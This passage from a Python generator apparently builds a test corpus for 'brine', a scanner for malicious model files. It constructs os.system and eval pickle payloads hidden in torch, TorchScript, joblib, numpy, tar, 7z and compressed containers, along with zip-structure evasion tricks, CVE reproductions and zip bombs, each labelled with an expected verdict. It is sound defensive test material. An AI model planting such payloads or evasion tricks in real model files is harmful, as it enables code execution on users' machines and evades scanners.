        "torch builds miniz with MINIZ_DISABLE_ZIP_READER_CRC32_CHECKS and loads it (verified, torch 1.13); "
        "CPython zipfile raises 'Bad CRC-32' at the end of the read, which aborted picklescan < 0.0.31.",
        PS + "GHSA-mjqp-26hc-grxg", check="zip-raw")
    add("cve-2025-10156_zero_crc.pt", build_zip(
        [E("archive/data.pkl", PAYLOAD_STATE, crc=0), E("archive/data/0", FLOATS), E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "data.pkl (os.system) whose CRC-32 is zeroed everywhere",
        "Same as the bad-CRC sample with the value a lazy writer leaves.", PS + "GHSA-mjqp-26hc-grxg",
        check="zip-raw")
    add("benign_torch_zip_crc32_disabled.pt", build_zip(
        [E("archive/data.pkl", BENIGN_STATE, crc=0), E("archive/data/0", FLOATS, crc=0),
         E("archive/version", b"3\n", crc=0)]),
        "clean", [],
        "benign state dict zip with every CRC-32 zero, as torch.save writes after "
        "torch.serialization.set_crc32_options(False) (torch 2.x)",
        "torch documents that such files fail or warn in unzip tools while torch.load reads them: a CRC "
        "mismatch alone is neither malicious nor an error.", PS + "GHSA-mjqp-26hc-grxg", check="zip-raw")
    add("tech_zip_deflated_bad_crc.pt", build_zip(
        [E("archive/data.pkl", PAYLOAD_STATE, method=8, crc=1), E("archive/data/0", FLOATS),
         E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "deflate-compressed data.pkl (os.system) with a wrong CRC",
        "torch inflates deflated records and still skips the CRC check (verified).", PS + "GHSA-mjqp-26hc-grxg",
        check="zip-raw")

    # ======================= nullifAI: 7z instead of zip, broken pickle ==========================
    add("nullifai_7z_torch_folder_broken_pickle.bin",
        sevenzip([("archive/data.pkl", BROKEN_PAYLOAD), ("archive/data/0", FLOATS), ("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "7z archive (LZMA2) of a torch-style folder whose archive/data.pkl calls os.system and then breaks "
        "(invalid opcode, no STOP)",
        "nullifAI shape: torch.load cannot open 7z, but whoever unpacks it and loads data.pkl runs the payload "
        "before the parse error. Expected malicious because the payload precedes the break. Written with the "
        "7zz CLI (7-Zip 22/26) with timestamps off: byte-identical across runs of the same 7-Zip version only.",
        NULLIFAI, check="7z")
    add("nullifai_7z_copy_torch_zip_broken_pickle.7z",
        sevenzip([("pytorch_model.bin", torch_zip(BROKEN_PAYLOAD))], method="Copy"),
        "malicious", ["os.system"],
        "7z archive (Copy method, no compression) holding pytorch_model.bin, a torch zip whose data.pkl is the "
        "broken os.system pickle",
        "Two container layers (7z -> zip -> pickle). 7z written by the 7zz CLI with timestamps off "
        "(deterministic for one 7-Zip version only).", NULLIFAI, check="7z")

    # ======================= CVE-2025-32434 / TorchScript ========================================
    ts = torchscript_samples()
    add("cve-2025-32434_torchscript_setstate_from_file.pt", ts["from_file"], "malicious", ["torch.from_file"],
        "real torch.jit.save archive (torch 1.13) of a module whose TorchScript __setstate__ calls "
        "torch.from_file('/tmp/brine-test.bin', False, 0) (op aten::from_file, reads a file)",
        "torch.jit.load runs a scripted class's __setstate__ while it unpickles data.pkl, so the file read "
        "happens at load time; torch.load <= 2.5.1 dispatches TorchScript archives to torch.jit.load even with "
        "weights_only=True (CVE-2025-32434). The pickles only name __torch__ classes: unapproved, not a "
        "denylist hit. .debug_pkl members (absolute source paths) removed for determinism.",
        PT + "GHSA-53q9-r3pm-6pq6", check="zip")
    add("cve-2025-32434_torchscript_setstate_aten_save.pt", ts["save"], "malicious", ["torch.save"],
        "real torch.jit.save archive whose TorchScript __setstate__ calls torch.save(tensor, "
        "'/tmp/brine-test.pt') (op aten::save, writes a file at load time)",
        "Same dispatch as the from_file sample; aten::save is the TorchScript builtin that writes a file. "
        "Which ops the CVE's private PoC used is not public (see docs/containers.md).",
        PT + "GHSA-53q9-r3pm-6pq6", check="zip")
    add("tech_torchscript_data_pkl_os_system.pt", ts["data_pkl_payload"], "malicious", ["os.system"],
        "stock-layer TorchScript archive whose data.pkl starts with GLOBAL os system + REDUCE",
        "torch.jit.load's C++ unpickler cannot import os.system (it fails), but any Python reader of data.pkl "
        "runs it; a scanner must not skip Python-pickle analysis because code/ is present.", check="zip")
    add("tech_torchscript_layout_without_constants_pkl.pt", ts["no_constants"], "malicious", ["os.system"],
        "TorchScript-looking archive (code/, __torch__ classes) with constants.pkl removed and os.system "
        "prepended to data.pkl",
        "torch.load decides 'TorchScript' only by a constants.pkl record (_is_torchscript_zip); without it "
        "torch.load unpickles data.pkl with Python pickle, so the payload runs under torch.load.",
        check="zip")

    # ======================= legacy (non-zip) torch stream =======================================
    add("ghsa-97f8-7cmv-76j2_legacy_magic_from_eval.pt",
        p2(call(glob("__builtin__", "eval"), xu("0x1950A86A20F9469CFC6C"))) + legacy_protocol() + p2(EMPTY_DICT)
        + p2(EMPTY_LIST) + PAYLOAD + p2(NONE),
        "malicious", ["builtins.eval", "os.system"],
        "legacy torch stream whose magic-number pickle is eval('0x1950A86A20F9469CFC6C'); pickles follow the "
        "advisory's test file: 1001, {}, [], os.system, None",
        "The scanner rejected the file as 'not PyTorch' when the first pickle was not a literal int. torch.load "
        "(weights_only=False) evaluates it, then runs the 5th pickle (read as the storage-key list) = os.system.",
        PS + "GHSA-97f8-7cmv-76j2", check="pickles")
    for pos, label in ((0, "magic"), (1, "protocol_version"), (2, "sys_info"), (3, "object"), (4, "storage_keys")):
        parts = dict(magic=None, protocol=None, sys_info=None, obj=None, keys=None)
        pre = os_system_call() + POP
        if pos == 0:
            parts["magic"] = legacy_magic(pre)
        elif pos == 1:
            parts["protocol"] = legacy_protocol(pre)
        elif pos == 2:
            parts["sys_info"] = legacy_sys_info(pre)
        elif pos == 3:
            parts["obj"] = legacy_object([(xu("brine"), os_system_call())])
        else:
            parts["keys"] = legacy_keys(pre)
        add("tech_legacy_payload_in_%s_pickle.pt" % label, legacy_file(**parts), "malicious", ["os.system"],
            "legacy torch stream (magic, 1001, sys_info, object, keys, storages) with os.system in pickle %d (%s); "
            "the pickle still returns the value torch expects" % (pos + 1, label),
            "torch.load's legacy path pickle.load()s all five streams in order, so each one is a payload "
            "position; the load then completes normally (checked on a harmless twin).", check="pickles")
    add("tech_legacy_payload_after_storages.pt", legacy_file(tail=PAYLOAD), "malicious", ["os.system"],
        "valid legacy torch stream followed, after the raw storage bytes, by an os.system pickle",
        "Nothing reads past the storages; the hidden pickle only appears to a scanner that walks storage "
        "sizes (8-byte element count x element size from the object pickle) to the real end of the file.",
        check="pickles-tail")

    # ======================= ancient torch 0.1.x tar format ======================================
    add("tech_tar_legacy_payload_in_pickle.pt",
        tar_bytes(tar_legacy_members(p2(od((xu("weight"), xu(str(TAR_TENSOR_KEY)) + BINPERSID),
                                           (xu("brine"), os_system_call())))), tarfile.PAX_FORMAT),
        "malicious", ["os.system"],
        "torch 0.1.x tar (sys_info, pickle, tensors, storages) with os.system in the 'pickle' member",
        "torch 1.13 still tries this format first for any non-zip real file at offset 0 (tarfile.open).",
        check="tar")
    add("tech_tar_legacy_payload_in_storages.pt",
        tar_bytes(tar_legacy_members(storages_pre=os_system_call() + POP), tarfile.PAX_FORMAT),
        "malicious", ["os.system"],
        "torch 0.1.x tar whose 'storages' member starts with a pickle that calls os.system before returning the "
        "storage count",
        "legacy_load reads 'storages' first (then 'tensors', then 'pickle'); the member mixes pickles and raw "
        "bytes, so every pickle in it must be decoded.", check="tar")
    add("tech_polyglot_tar_name_field_pickle.pt",
        tar_bytes([(PAYLOAD_P0.decode("ascii"), b"")] + tar_legacy_members(), tarfile.USTAR_FORMAT),
        "malicious", ["os.system"],
        "valid benign torch 0.1.x tar whose first member's 100-byte name field is a protocol 0 os.system pickle",
        "torch.load reads it as a tar and loads the benign state dict; pickle.load (and numpy.load "
        "allow_pickle=True) read the same file from byte 0 as a pickle and run os.system.", check="tar")

    # ======================= polyglots and prepended data ========================================
    add("tech_polyglot_payload_pickle_then_benign_zip.pt",
        build_zip(torch_members(BENIGN_STATE), lead=PAYLOAD),
        "malicious", ["os.system"],
        "os.system pickle followed by a complete benign torch zip (offsets valid from the file start)",
        "zipfile.is_zipfile/ZipFile find the EOCD and see a clean model; torch.load sees no PK\\3\\4 at byte 0, "
        "takes the legacy path and pickle.load()s the leading payload (then fails the magic check).",
        check="polyglot")
    add("tech_polyglot_benign_pickle_then_payload_zip.pt",
        build_zip(torch_members(PAYLOAD_STATE), lead=p2(od())),
        "malicious", ["os.system"],
        "benign pickle (empty OrderedDict) followed by a torch zip whose data.pkl calls os.system",
        "pickle.load and torch.load run only the benign head; a zipfile-based loader reads data.pkl.",
        check="polyglot")
    add("tech_zip_prepended_junk.pt",
        build_zip(torch_members(PAYLOAD_STATE), lead=b"BRINE-JUNK\0" * 8, absolute=False),
        "malicious", ["os.system"],
        "88 bytes of junk, then a torch zip with os.system in data.pkl; offsets relative to the zip",
        "CPython zipfile opens it (it shifts every offset by EOCD position - cd size - cd offset); miniz does not "
        "('invalid header') and torch.load goes to the legacy path. Scanners keyed on byte 0 miss the zip.",
        check="zip-raw")

    # ======================= zip structure tricks ================================================
    add("tech_zip_duplicate_names_benign_first.pt",
        build_zip([E("archive/data/0", FLOATS), E("archive/version", b"3\n"), E("archive/data.pkl", BENIGN_STATE),
                   E("archive/data.pkl", PAYLOAD_STATE)]),
        "malicious", ["os.system"],
        "two central entries named archive/data.pkl: benign first, os.system second",
        "CPython zipfile: read(name) returns the LAST entry. torch (miniz) returns whichever entry its binary "
        "search over a heap-sorted, case-folded name index hits; here the first (verified). Scan every entry.",
        check="zip-raw")
    add("tech_zip_duplicate_names_payload_first.pt",
        build_zip([E("archive/data/0", FLOATS), E("archive/version", b"3\n"), E("archive/data.pkl", PAYLOAD_STATE),
                   E("archive/data.pkl", BENIGN_STATE)]),
        "malicious", ["os.system"],
        "two central entries named archive/data.pkl: os.system first, benign second",
        "torch 1.13 loads the payload; a scanner that iterates namelist() and opens by name reads the benign "
        "second entry twice (picklescan-style) and never sees the payload.", check="zip-raw")
    add("tech_zip_outside_prefix_data_pkl.pt",
        build_zip(torch_members(BENIGN_STATE) + [E("evil/data.pkl", PAYLOAD_STATE), E("evil/version", b"3\n")]),
        "malicious", ["os.system"],
        "benign archive/ record set plus a second top-level folder evil/ with its own data.pkl (os.system)",
        "torch takes the prefix from the first central entry and never opens evil/ (1.13: get_all_records even "
        "raises 'file in archive is not in a subdirectory archive/'); loaders that pick the first '*/data.pkl' "
        "differently, or a re-ordered archive, run it.", check="zip-raw")
    add("tech_zip_uppercase_data_pkl.pt",
        build_zip([E("archive/DATA.PKL", PAYLOAD_STATE), E("archive/data/0", FLOATS), E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "the only pickle member is archive/DATA.PKL (os.system)",
        "miniz's name lookup is ASCII case-insensitive, so torch.load loads DATA.PKL as data.pkl (verified); "
        "zipfile.read('archive/data.pkl') raises KeyError and '.pkl' suffix filters miss it.", check="zip")
    add("tech_zip_deflated_data_pkl.pt",
        build_zip([E("archive/data.pkl", PAYLOAD_STATE, method=8), E("archive/data/0", FLOATS),
                   E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "data.pkl (os.system) stored with DEFLATE (method 8) instead of torch's usual stored records",
        "torch reads deflated records (TorchScript code/ is always deflated); a scanner that greps the raw "
        "file for pickle opcodes sees only compressed bytes.", check="zip")
    add("tech_zip_nested_torch_zip.zip",
        build_zip([E("model/pytorch_model.bin", torch_zip(PAYLOAD_STATE), method=8),
                   E("model/config.json", b'{"brine": "test"}\n', method=8)], style="plain"),
        "malicious", ["os.system"],
        "plain zip (deflated members) holding model/pytorch_model.bin, itself a torch zip with os.system in "
        "data.pkl",
        "Model bundles (.mar, .nemo, zipped checkpoints) nest archives; brine must recurse with a depth limit.",
        check="zip")
    add("tech_zip_data_after_eocd.pt", torch_zip(BENIGN_STATE, tail=PAYLOAD), "malicious", ["os.system"],
        "benign torch zip followed, after the end-of-central-directory record, by an os.system pickle",
        "Both miniz and CPython still open the archive (EOCD found by a backward search within 64 KiB). The "
        "trailing pickle is never loaded by torch; it is hidden content that only a polyglot-aware loader "
        "or a second stage uses, and brine reports it as a hidden pickle.", check="zip")
    add("tech_zip_gap_between_members.pt",
        build_zip(torch_members(BENIGN_STATE), gaps={0: PAYLOAD}), "malicious", ["os.system"],
        "benign torch zip with an os.system pickle in the unreferenced gap after data.pkl's data descriptor",
        "No central entry covers the gap; torch and CPython ignore it, streaming readers stumble over it. "
        "Bytes between members that parse as a pickle are hidden content.", check="zip")
    add("tech_zip_orphan_local_entry.pt",
        build_zip([E("archive/data.pkl", PAYLOAD_STATE, in_cd=False)] + torch_members(BENIGN_STATE)),
        "malicious", ["os.system"],
        "a local header + data 'archive/data.pkl' (os.system) that no central entry references, placed before "
        "the real benign members",
        "Central-directory readers (torch, zipfile) load the benign data.pkl; local-header walkers (streaming "
        "unzip, Java ZipInputStream-style) meet the payload data.pkl first.", check="zip")
    add("tech_zip64_eocd_two_central_directories.pt",
        zip64_two_central_directories(PAYLOAD_STATE, BENIGN_STATE), "malicious", ["os.system"],
        "two central directories: the ZIP64 locator points at one (archive/data.pkl = os.system), the ZIP64 end "
        "record just before the locator (and the classic EOCD) describe another (benign data.pkl)",
        "miniz follows the locator's offset and loads the payload; CPython zipfile assumes the ZIP64 record "
        "sits right before the locator and only ever sees the benign directory (verified both, torch 1.13 / "
        "Python 3.11). Every zipfile-based scanner is blind here.", check="zip-raw")
    add("tech_zip_cd_count_lie_hides_entry.pt",
        build_zip([E("archive/data.pkl", PAYLOAD_STATE), E("archive/data/0", FLOATS), E("archive/version", b"3\n"),
                   E("archive/data.pkl", BENIGN_STATE)], count=3, count64=3),
        "malicious", ["os.system"],
        "central directory holds 4 entries but both end records say 3; the 4th is a benign duplicate data.pkl",
        "miniz reads exactly the declared count (sees only the payload data.pkl); CPython ignores the count and "
        "parses cd_size bytes, so read('archive/data.pkl') returns the benign 4th entry.", check="zip-raw")
    add("tech_zip_cd_count_too_large_benign.pt", torch_zip(BENIGN_STATE, count=4, count64=4),
        "error", [],
        "benign torch zip whose end records claim 4 entries for 3",
        "miniz refuses it ('invalid header or archive is corrupted'); CPython reads it. Malformed container, "
        "nothing malicious: error.", check="zip-raw")
    add("tech_zip_zipcrypto_encrypted_data_pkl.pt",
        build_zip([E("archive/data.pkl", BENIGN_STATE, flags=0x0801, descriptor=False,
                     comp=zipcrypto_encrypt(BENIGN_STATE, b"brine-test", b"brine-salt!",
                                            (zlib.crc32(BENIGN_STATE) >> 24) & 0xFF)),
                   E("archive/data/0", FLOATS), E("archive/version", b"3\n")]),
        "error", [],
        "data.pkl really encrypted with ZipCrypto (password 'brine-test'; content is the benign state dict)",
        "Neither torch nor brine can read it (miniz: unsupported encryption); a password-aware loader can. "
        "An unreadable pickle member means the analysis is incomplete: never clean (error).", check="zip-raw")

    # ======================= bombs and limits ====================================================
    bombs = bomb_samples()
    add("bomb_nested_zip_1gib_pickle.zip", bombs["nested_zip"], "error", [],
        "zip holding inner.zip (deflated) whose archive/data.pkl (deflated) is a valid pickle: BINBYTES8 of "
        "1 GiB of zeros then STOP; %d bytes on disk, 2 inflation layers" % len(bombs["nested_zip"]),
        "Reaching the STOP needs 1 GiB of inflated output (ratio > 10,000:1 overall, ~1,030:1 per layer): "
        "brine must stop at its inflated-size / ratio limit (limit:*) and say error, not clean.", check="zip")
    add("bomb_gzip_of_gzip_1gib_pickle.pkl.gz", bombs["gz_gz"], "error", [],
        "gzip of a gzip of a pickle whose BINBYTES8 holds 1 GiB of zeros (%d bytes on disk)" % len(bombs["gz_gz"]),
        "Same limit through stream compressors (joblib.load would inflate the outer layer only and fail on the "
        "inner gzip bytes as a pickle; a recursive scanner must bound both layers).", check="gzip")
    add("bomb_zip_overlapping_entries.pt", bombs["overlap"], "malicious", [],
        "one deflated 48 MiB pickle (BINBYTES8 of zeros) referenced by 24 central entries with different names "
        "(all pointing at the same local header): 1.1 GiB of output from %d bytes" % len(bombs["overlap"]),
        "The 'overlapping files' zip bomb: miniz extracts each entry; CPython 3.11 only objects to the name "
        "mismatch. brine flags entries sharing a local header (malformed:zip-overlap, error) and does not inflate "
        "them again; the central names that disagree with the one local header are an evasion indicator, so the "
        "verdict is malicious.",
        check="zip-raw")
    add("limits_zip_560_entries.pt", bombs["many"], "clean", [],
        "benign torch zip plus 560 empty members archive/extra/NNN (%d bytes)" % len(bombs["many"]),
        "20,000 or 200,000 entries cannot fit in 64 KB (each entry costs >= 76 header bytes), so this sample "
        "only pins that a few hundred harmless empty members scan clean; the proposed default entry limit "
        "is 100,000.", check="zip")
    add("limits_zip_claims_200000_entries.pt", torch_zip(BENIGN_STATE, count=0xFFFF, count64=200000),
        "error", [],
        "benign torch zip whose ZIP64 end record claims 200,000 entries (classic record 0xFFFF)",
        "The entry count must be checked against the limit and against cd_size before allocating; miniz "
        "rejects it as corrupted. Malformed: error.", check="zip-raw")

    # ======================= compression wrappers ================================================
    zlib_payload = zlib.compress(PAYLOAD_P4, 9)
    add("wrap_gzip_payload.pkl.gz", gz(PAYLOAD_P4), "malicious", ["os.system"],
        "gzip (mtime 0) of a protocol 4 os.system pickle",
        "joblib.load detects the gzip magic and unpickles the content; pandas.read_pickle infers .gz.",
        check="gzip")
    add("wrap_bz2_payload.pkl.bz2", bz2.compress(PAYLOAD_P4, 9), "malicious", ["os.system"],
        "bzip2 of the payload pickle", "joblib.load detects 'BZ'.", check="bz2")
    add("wrap_xz_payload.pkl.xz", lzma.compress(PAYLOAD_P4, format=lzma.FORMAT_XZ), "malicious", ["os.system"],
        "xz of the payload pickle", "joblib.load detects the xz magic FD 37 7A 58 5A.", check="xz")
    add("wrap_lzma_alone_payload.pkl.lzma", lzma.compress(PAYLOAD_P4, format=lzma.FORMAT_ALONE),
        "malicious", ["os.system"], "legacy .lzma (LZMA_Alone) of the payload pickle",
        "joblib.load detects the 5D 00 prefix.", check="lzma")
    add("wrap_zstd_payload.pkl.zst", zstd_bytes(PAYLOAD_P4), "malicious", ["os.system"],
        "zstd (CLI, level 19) of the payload pickle",
        "pandas.read_pickle infers zstd from .zst; joblib has no zstd. Written by the zstd CLI (1.5.4).",
        check="zstd")
    add("wrap_lz4_frame_payload.pkl.lz4", lz4_frame(PAYLOAD_P4), "malicious", ["os.system"],
        "LZ4 frame (04 22 4D 18) of the payload pickle", "joblib.load detects the LZ4 frame magic.", check="lz4")
    add("wrap_zlib_payload.pkl.z", zlib_payload, "malicious", ["os.system"],
        "raw zlib stream (78 DA) of the payload pickle",
        "joblib's 'zlib' compressor is exactly this, and joblib.load treats ANY file starting with 0x78 as "
        "zlib.", check="zlib")
    add("wrap_gzip_of_gzip_payload.pkl.gz.gz", gz(gz(PAYLOAD_P4)), "malicious", ["os.system"],
        "gzip of a gzip of the payload pickle", "Two stream layers: brine must recurse (bounded).", check="gzip")
    add("wrap_tar_payload_pt.tar", tar_bytes([("model/pytorch_model.pt", torch_zip(PAYLOAD_STATE))]),
        "malicious", ["os.system"], "ustar tar (mtime 0) holding a torch zip with os.system in data.pkl",
        "Archive of a model directory; ModelAudit-style tar recursion.", check="tar")
    add("wrap_tar_gz_payload_pt.tar.gz", gz(tar_bytes([("model/pytorch_model.pt", torch_zip(PAYLOAD_STATE))])),
        "malicious", ["os.system"], "gzip of the tar above", "Three layers: gzip -> tar -> zip -> pickle.",
        check="gzip")

    # ======================= joblib ==============================================================
    add("joblib_outer_pickle_payload.joblib",
        joblib_dict_stream(outer_extra=u("brine") + call(sg("os", "system"), u(CMD))),
        "malicious", ["os.system"],
        "joblib 1.2 stream (dict of a float32 array + an object array) with an os.system call as an extra dict "
        "value in the outer protocol 4 pickle",
        "The outer pickle is decoded around the raw array regions (padding byte rule, object-array nested "
        "pickle).", check="joblib")
    add("joblib_object_array_nested_payload.joblib",
        joblib_dict_stream(object_payload=np_object_array_pickle(xu("cat"), os_system_call())),
        "malicious", ["os.system"],
        "joblib stream whose object-dtype array (nested protocol 2 pickle written straight after the wrapper's "
        "BUILD) has os.system among its elements",
        "joblib.load calls pickle.load on the nested stream (NumpyArrayWrapper.read_array), plain pickle.load "
        "reads the same bytes inline; both run it.", check="joblib")
    hidden = joblib_hidden_region(os_system_call_p0())
    add("joblib_padding_region_opcodes_for_pickle_load.joblib", joblib_dict_stream(hidden=hidden),
        "malicious", ["os.system"],
        "joblib stream whose float32 array has padding byte 0x4E ('N', NONE) and 78 'padding' bytes that are "
        "pickle opcodes: POP, GLOBAL os system, BINUNICODE, TUPLE1, REDUCE, POP, no-op fill; the 16 array bytes "
        "are 'N0' no-op pairs",
        "joblib.load reads the padding length, skips those 78 bytes unchecked and returns array bytes "
        "[78,48,...] (nothing runs); pickle.load / numpy.load(allow_pickle=True) / pandas.read_pickle execute "
        "the same bytes as opcodes and call os.system (verified on a harmless twin). A joblib-aware scanner "
        "that skips raw regions misses what pickle.load runs.", check="joblib")
    stream = joblib_dict_stream(outer_extra=u("brine") + call(sg("os", "system"), u(CMD)))
    add("joblib_zlib_payload.joblib", zlib_compressobj(stream), "malicious", ["os.system"],
        "joblib zlib variant (compress=('zlib', 3) layout) of the outer-pickle payload stream",
        "joblib.load decompresses by magic byte 0x78; the raw-array padding rule applies to positions in the "
        "decompressed stream.", check="zlib")
    add("joblib_lz4_payload.joblib", lz4_frame(stream), "malicious", ["os.system"],
        "joblib lz4 variant (LZ4 frame) of the outer-pickle payload stream", "joblib.load needs python lz4.",
        check="lz4")
    add("joblib_xz_payload.joblib", lzma.compress(stream, format=lzma.FORMAT_XZ), "malicious", ["os.system"],
        "joblib xz variant of the outer-pickle payload stream",
        "joblib.load detects FD 37 7A 58 5A and reads the stream through lzma.", check="xz")
    zf_body = zlib.compress(PAYLOAD_P4, 1)
    add("joblib_zf_compat_payload.pkl",
        b"ZF" + ("{:#x}".format(len(PAYLOAD_P4))).encode("ascii").ljust(len("{:#x}".format(2 ** 64))) + zf_body,
        "malicious", ["os.system"],
        "joblib < 0.9.3 'ZF' file: 'ZF' + hex length padded to 19 bytes + zlib stream of the payload pickle",
        "joblib.load(path) still routes the ZF prefix to load_compatibility/read_zfile.", check="zf")
    add("joblib_ndarraywrapper_external_npy.joblib",
        p2(dct((xu("weights"), glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
                + dct((xu("filename"), xu("/tmp/brine-test.npy")), (xu("subclass"), glob("numpy", "ndarray")),
                      (xu("allow_mmap"), NEWFALSE)) + BUILD))),
        "unapproved", [],
        "joblib <= 0.9 pickle with a joblib.numpy_pickle_compat.NDArrayWrapper whose filename is "
        "/tmp/brine-test.npy",
        "joblib.load joins the name to the pickle's directory (absolute paths win) and calls "
        "numpy.load(..., allow_pickle=True) on it: loads a second, unscanned file. The compat wrappers must not "
        "be part of the default joblib allowlist.", check="pickle")

    # ======================= numpy npy / npz =====================================================
    obj_payload = npy_object_array_pickle(xu("cat"), os_system_call())
    add("npy_object_array_payload.npy", npy_header("|O", (2,)) + obj_payload, "malicious", ["os.system"],
        "v1.0 .npy header with descr '|O', followed by a protocol 3 object-array pickle holding os.system",
        "numpy.load(allow_pickle=True) pickle.load()s everything after the header.", check="npy")
    add("npy_v2_object_array_payload.npy", npy_header("|O", (2,), (2, 0)) + obj_payload, "malicious",
        ["os.system"], "v2.0 header (4-byte header length) object array with os.system",
        "Header length field is 4 bytes from v2; data still starts at a multiple of 64.", check="npy")
    add("npy_v3_object_array_payload.npy", npy_header("|O", (2,), (3, 0)) + obj_payload, "malicious",
        ["os.system"], "v3.0 header (4-byte length, UTF-8 header text) object array with os.system",
        "v3 only changes the header text encoding (UTF-8 instead of latin-1).", check="npy")
    add("npy_object_array_payload_named.bin", npy_header("|O", (2,)) + obj_payload, "malicious", ["os.system"],
        "the v1.0 object-array payload .npy under a .bin name", "Content decides the format.", check="npy")
    np_parts = numpy_samples()
    add("npz_benign_and_payload_member.npz",
        build_zip([E("weights.npy", np_parts["float_npy"]), E("labels.npy", npy_header("|O", (2,)) + obj_payload)],
                  style="plain"),
        "malicious", ["os.system"],
        "npz (stored zip) with weights.npy (float32, written by numpy) and labels.npy (object array with "
        "os.system)", "np.load(...)['labels'] with allow_pickle=True runs it.", check="zip")

    # ======================= benign, written by the real libraries ==============================
    jl = joblib_samples()
    for key, note in (("plain", "joblib.dump(dict of arrays)"),
                      ("zlib", "compress=('zlib', 3)"), ("gzip", "compress=('gzip', 3), gzip mtime set to 0"),
                      ("bz2", "compress=('bz2', 3)"), ("lzma", "compress=('lzma', 3)"), ("xz", "compress=('xz', 3)"),
                      ("lz4", "compress=('lz4', 3), python3-lz4 4.0.2")):
        add("benign_joblib_arrays_%s.joblib" % key, jl[key], "clean", [],
            "joblib 1.2 dump of a dict of float32/int64/big-endian/Fortran-order arrays (%s)" % note,
            "Real joblib output, loaded back with joblib.load. Clean assumes the joblib container approves "
            "joblib.numpy_pickle.NumpyArrayWrapper with its state dict by default.", check="benign")
    add("benign_joblib_object_array.joblib", jl["object"], "clean", [],
        "joblib.dump of a dict holding an object-dtype array (str and int elements)",
        "Object arrays are a nested protocol 2 pickle inside the protocol 4 stream: legitimately a mid-stream "
        "PROTO, which the joblib container must not report as an evasion.", check="benign")
    add("benign_joblib_sklearn_pipeline.joblib", jl["sklearn"], "unapproved", [],
        "joblib.dump of a fitted sklearn 1.2 Pipeline(StandardScaler, LogisticRegression)",
        "sklearn globals are not in the default rules; with the sklearn pack it is clean.",
        with_packs={"sklearn": "clean"}, check="benign")
    for key, note in (("float", "np.save of a float32 2x3 array"),
                      ("object", "np.save of an object array (str, int, None): protocol 3 pickle after the header"),
                      ("v2", "np.lib.format.write_array(version=(2, 0))"),
                      ("v3", "np.lib.format.write_array(version=(3, 0)) of a structured array with a non-ASCII "
                             "field name")):
        add("benign_np_save_%s.npy" % key, np_parts[key], "clean", [], note, "Real numpy 1.24 output.",
            check="benign")
    add("benign_np_savez.npz", np_parts["savez"], "clean", [],
        "np.savez of a float array and an object array (zip dates fixed to 1980-01-01)", "Real numpy output.",
        check="benign")
    add("benign_np_savez_compressed.npz", np_parts["savez_compressed"], "clean", [],
        "np.savez_compressed of the same arrays (deflated members)", "Real numpy output.", check="benign")
    tsd = torch_state_dict()
    add("benign_torch_state_dict.tar", tar_bytes([("model/pytorch_model.pt", tsd)]), "clean", [],
        "ustar tar holding a real torch.save state dict (Linear(3, 2))",
        "Real torch 1.13 output inside a deterministic tar (mtime 0, uid/gid 0).", check="benign")
    add("benign_torch_state_dict.tar.gz", gz(tar_bytes([("model/pytorch_model.pt", tsd)])), "clean", [],
        "gzip of that tar", "gzip header mtime 0.", check="benign")
    add("benign_torch_state_dict.pt.gz", gz(tsd), "clean", [], "gzip of a real torch.save state dict", "gzip header mtime 0.",
        check="benign")
    add("benign_torch_state_dict.pt.zst", zstd_bytes(tsd), "clean", [],
        "zstd of a real torch.save state dict", "Written by the zstd CLI (1.5.4).", check="benign")
    add("benign_torch_state_dict.7z", sevenzip([("pytorch_model.bin", tsd)]), "clean", [],
        "7z (LZMA2) of a real torch.save state dict",
        "7zz CLI with timestamps off: deterministic for one 7-Zip version only.", check="benign")
    add("benign_tar_legacy_state_dict.pt", tar_bytes(tar_legacy_members(), tarfile.PAX_FORMAT), "clean", [],
        "hand-built torch 0.1.x tar (sys_info, pickle, tensors, storages) of {'weight': FloatTensor[4]}",
        "Loads with torch 1.13's torch.load (checked). Clean assumes the legacy references torch.FloatStorage / "
        "torch.FloatTensor (storage and tensor type objects) are approved by default.", check="benign")
    add("benign_torchscript_stock_layers.pt", ts["stock"], "unapproved", [],
        "real torch.jit.save of torch.jit.script(Sequential(Linear(4, 2), ReLU())) (torch 1.13)",
        "TorchScript archives carry code and __torch__ classes: never clean by default rules.", check="benign")


def os_system_call_p0():
    return glob("os", "system") + xu(CMD) + TUPLE1 + REDUCE + POP


def joblib_hidden_region(hidden_call):
    """(pad_byte, pad, data) for the joblib.load/pickle.load differential. hidden_call must leave the
    stack as it found it (GLOBAL ... REDUCE POP)."""
    pad_byte = ord("N")                    # NONE for pickle.load, "78 padding bytes" for joblib.load
    region = POP + hidden_call             # POP the None
    fill = pad_byte - len(region)
    if fill % 2:
        region += b"K\x00" + POP           # BININT1 0, POP: a 3-byte no-op
        fill -= 3
    region += b"N0" * (fill // 2)
    assert len(region) == pad_byte
    return pad_byte, region, b"N0" * 8     # 16 bytes of float32 data = 4 floats


def zlib_compressobj(data):
    """joblib's BinaryZlibFile: zlib.compressobj(level 3, DEFLATED, MAX_WBITS)."""
    c = zlib.compressobj(3, zlib.DEFLATED, zlib.MAX_WBITS, zlib.DEF_MEM_LEVEL, 0)
    return c.compress(data) + c.flush()


# --------------------------------------------------------------------------- library-made parts
def torchscript_samples():
    import torch
    from typing import Tuple
    from torch import Tensor

    class FromFileOnLoad(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = torch.ones(2)

        def forward(self, x: Tensor) -> Tensor:
            return x * self.scale

        @torch.jit.export
        def __getstate__(self) -> Tuple[Tensor, bool]:
            return (self.scale, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[Tensor, bool]) -> None:
            self.scale = state[0]
            self.training = state[1]
            probe = torch.from_file("/tmp/brine-test.bin", False, 0)
            self.scale = self.scale + probe.sum()

    class SaveOnLoad(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = torch.ones(2)

        def forward(self, x: Tensor) -> Tensor:
            return x * self.scale

        @torch.jit.export
        def __getstate__(self) -> Tuple[Tensor, bool]:
            return (self.scale, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[Tensor, bool]) -> None:
            self.scale = state[0]
            self.training = state[1]
            torch.save(self.scale, "/tmp/brine-test.pt")

    def jit_bytes(module, drop_debug=False):
        buf = io.BytesIO()
